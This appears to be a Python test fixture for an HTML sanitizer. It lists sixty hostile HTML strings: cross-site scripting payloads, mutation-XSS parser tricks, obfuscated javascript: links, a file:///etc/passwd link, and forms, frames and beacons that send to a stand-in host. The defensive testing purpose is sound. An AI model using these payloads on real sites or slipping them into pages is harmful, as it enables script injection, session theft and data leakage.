"""Sixty documents in HTML that would run, load, lay over or send something if a browser drew them as they are.

MARK is set by whatever runs, AWAY is asked for whatever is loaded; neither may happen.
"""

MARK = "window.ran=1"
AWAY = "https://away.example"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HOSTILE = [
    # Scripts, plain and broken in ways that only a browser mends.
    f"<script>{MARK}</script>",
    f"<script src='{AWAY}/a.js'></script>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<SCRIPT/x>{MARK}</SCRIPT >",
    f"<script\n>{MARK}//",
    f"<script><!--{MARK}--></script><script>{MARK}</script>",
    f"</p></div></article><script>{MARK}</script>",
    f"--><script>{MARK}</script><!--",
    f"]]><script>{MARK}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    f"<template><script>{MARK}</script></template>",
    f'<xmp><p title="</xmp><script>{MARK}</script>">',
    f"<plaintext><script>{MARK}</script>",
    f"<title><img src=x onerror={MARK}></title>",
    f"<textarea><script>{MARK}</script>",
    # Attributes that run.
    f"<img src=x onerror={MARK}>",
    f"<img/src=x/onerror={MARK}>",
    f"<img src='x' onerror=\"{MARK}\" alt='\"><script>{MARK}</script>'>",
    f"<body onload={MARK}>",
    f"<p onmouseover={MARK} style='position:fixed;inset:0'>all over</p>",
    f"<details open ontoggle={MARK}><summary>s</summary></details>",
    f"<b autofocus tabindex=0 onfocus={MARK}>focus</b>",
    f"<video><source onerror={MARK}></video><audio src={AWAY}/a onerror={MARK}>",
    f"<marquee onstart={MARK}>m</marquee>",
    f"<p class='primary button' id=answer name=body data-key=1 hx-get='{AWAY}/h' hx-trigger=load>hx</p>",
    # SVG and MathML.
    f"<svg onload={MARK}><circle r=9></circle></svg>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s></svg>",
    f"<svg><a href='javascript:{MARK}'><text y=20>svg link</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{MARK}</script>'></iframe></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'></use><image href='{AWAY}/i.png'/></svg>",
    f"<svg><style><img src=x onerror={MARK}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{MARK}'>m</math>",
    f"<math><annotation-xml encoding='text/html'><script>{MARK}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={MARK} src>'>",
    # Addresses that run, and pages that replace this one.
    f"<a href='javascript:{MARK}'>click</a>",
    f"<a href=' java\tscript:{MARK}'>click</a>",
    f"<a href='&#106;avascript&colon;{MARK}'>click</a>",
    f"<a href='\x01javascript:{MARK}'>click</a>",
    f"<a href='data:text/html,<script>{MARK}</script>'>click</a>",
    f"<a href='vbscript:{MARK}'>click</a><a href='blob:x'>click</a><a href='file:///etc/passwd'>click</a>",
    f"<a href='//away.example/x' target=_top ping='{AWAY}/ping'>click</a><a href='/accounts/logout/'>out</a>",
    f"<base href='{AWAY}/'><a href='x'>relative</a><img src='x.png'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    f"<link rel=stylesheet href='{AWAY}/s.css'><link rel=prefetch href='{AWAY}/p'>",
    # Frames, objects, forms.
    f"<iframe src='{AWAY}/'></iframe>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<object data='{AWAY}/o.swf'></object><embed src='{AWAY}/e'>",
    f"<frameset><frame src='javascript:{MARK}'></frameset>",
    f"<form action='{AWAY}/f' id=answer><input name=grade value=1 autofocus onfocus={MARK}><button>Send</button>",
    f"<button form=answer formaction='{AWAY}/f' name=grade value=1>Relevant</button>",
    f"<select onfocus={MARK} autofocus><option>o</select><isindex action='{AWAY}/'>",
    # Styles and images.
    f"<style>@import '{AWAY}/s.css'; body {{ background: url({AWAY}/b.png) }}</style>",
    f"<p style=\"background:url('{AWAY}/b.png');position:fixed\">p</p><table background='{AWAY}/t.png'>",
    f"<img src='{AWAY}/i.png' srcset='{AWAY}/2.png 2x' lowsrc='{AWAY}/l.png'><picture><source srcset='{AWAY}/p'>",
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}'/>\">",
    f"<img src='data:text/html;base64,PHNjcmlwdD4='><img src='data:image/png;base64,{PIXEL}\" onerror={MARK} x=\"'>",
    f"<input type=image src='{AWAY}/i.png'><canvas></canvas><dialog open>dialog</dialog>",
    f"<table><script>{MARK}</script>w<tr><a href='javascript:{MARK}'>x</a><td><table><td>y<img src=x onerror={MARK}>",
]
assert len(HOSTILE) == 60
